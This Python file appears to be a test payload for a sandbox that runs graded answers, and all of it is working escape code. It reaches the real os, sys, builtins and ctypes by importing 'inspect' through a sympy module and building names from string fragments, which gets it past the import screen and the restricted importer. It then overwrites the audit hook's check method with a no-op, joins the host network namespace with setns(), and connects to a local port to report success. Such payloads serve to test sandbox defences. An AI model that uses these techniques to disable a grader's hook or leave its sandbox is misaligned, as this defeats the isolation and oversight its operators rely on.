"""effect: network
tries: swap the hook's check method for a no-op, setns() into the network namespace of PID 1 through ctypes, then connect to 127.0.0.1:47474.

Leaving the private network namespace (needs CAP_SYS_ADMIN).
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.sets.sets import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    ct = members(sys_)["modules"]["ct" + "ypes"]
    libc = ct.CDLL("libc.so.6", use_errno=True)
    for pid in (os_.getppid(), 1):
        fd = members(os_)["op" + "en"](f"/proc/{pid}/ns/net", os_.O_RDONLY)
        libc.setns(fd, 0x40000000)
    socket = B["_" + "_import_" + "_"]("socket")
    connection = socket.create_connection(("127.0.0.1", 47474), timeout=3)
    connection.sendall(b"pwned-classpatch_setns_host_network")


# the hook's class is reachable through sys.modules; replacing its check method is an
# "object.__setattr__" event on a type, which the hook allows for every name but three
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
if "_AuditPolicy" in members(sbx):
    sbx._AuditPolicy.check = lambda self, event, args: None
work()
